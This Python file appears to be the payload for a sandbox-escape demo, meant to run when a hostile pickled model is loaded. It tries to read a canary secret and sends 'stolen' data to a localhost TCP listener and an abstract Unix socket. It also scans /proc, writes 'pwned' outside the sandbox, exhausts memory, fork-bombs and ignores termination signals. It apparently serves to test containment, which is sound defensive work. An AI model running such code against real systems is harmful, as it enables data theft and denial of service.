# The attacker's program. It is stored inside the hostile model and runs when that is unpickled. Every attempt
# prints one line, "attack NAME: …"; testdata/demo/demo.sh also looks at the victim's side.
import os, signal, socket, sys, threading, time


def attempt(name, act):
    try:
        print(f"attack {name}: got through: {act()}", flush=True)
    except Exception as e:
        print(f"attack {name}: stopped: {type(e).__name__}: {e}", flush=True)


def home():
    with open(os.environ["DEMO_CANARY"] + "/secret") as f:
        return "read the secret " + f.read().strip()


def network():
    with socket.create_connection(("127.0.0.1", int(os.environ["DEMO_PORT"])), timeout=3) as s:
        s.sendall(b"stolen over TCP\n")
    return "connected to the host's listener"


def unix():
    with socket.socket(socket.AF_UNIX) as s:
        s.connect("\0loadlock-demo-" + os.environ["DEMO_PORT"])
        s.sendall(b"stolen over a socket\n")
    return "connected to the host's abstract socket"


def processes():
    ids = [p for p in os.listdir("/proc") if p.isdigit()]
    for p in ids:
        with open(f"/proc/{p}/cmdline", "rb") as f:
            if b"listener.py" in f.read():
                return f"{len(ids)} processes, the host's listener is {p}"
    raise LookupError(f"{len(ids)} processes, all of this sandbox")


def outside():
    last = None
    for path in os.environ["DEMO_OUTSIDE"].split(":"):
        try:
            with open(path, "w") as f:
                f.write("pwned\n")
            return "wrote " + path
        except OSError as e:
            last = e
    raise last


def memory():
    hold = []
    while True:  # touched, not only reserved
        hold.append(bytearray(os.urandom(1 << 20) * 64))


def pids():
    made = 0
    try:
        while made < 100_000:
            if os.fork() == 0:
                while True:
                    time.sleep(1000)
            made += 1
    except OSError as e:
        raise OSError(e.errno, f"{os.strerror(e.errno)} after {made} processes") from None
    return f"{made} processes"


def forever():
    for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(s, signal.SIG_IGN)
    while True:
        pass


def run():
    wanted = os.environ.get("DEMO_ATTACK", "probe")
    if wanted == "probe":
        for act in (home, network, unix, processes, outside):
            attempt(act.__name__, act)
    else:
        attempt(wanted, {"memory": memory, "pids": pids, "time": forever}[wanted])


run()
